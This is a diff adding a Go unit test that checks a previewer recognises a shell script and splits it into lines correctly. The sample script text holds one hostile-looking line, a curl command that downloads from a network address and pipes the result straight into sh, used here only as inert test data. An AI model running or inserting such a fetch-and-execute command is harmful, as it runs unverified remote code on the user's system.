@@ -234,3 +234,20 @@ func TestLRU(t *testing.T) {
 		t.Fatal("a lost")
 	}
 }
+
+func TestShellScriptUsesBashLexer(t *testing.T) {
+	src := "#!/bin/bash\r\ncurl -s http://203.0.113.9/x | sh\n# done\r\n"
+	p := New(nil, Options{})
+	p.SetSize(80, 10)
+	p.SetRecord(record("/tmp/run.sh", src, int64(len(src))))
+	if !p.scr.bash {
+		t.Fatal("not recognised as shell")
+	}
+	run(p, p.Load())
+	if p.doc == nil || p.doc.plain || len(p.doc.lines) != 3 {
+		t.Fatalf("doc %+v", p.doc)
+	}
+	if got := plainDoc(p.doc); got[1] != "curl -s http://203.0.113.9/x | sh" {
+		t.Fatalf("line 2 %q", got[1])
+	}
+}
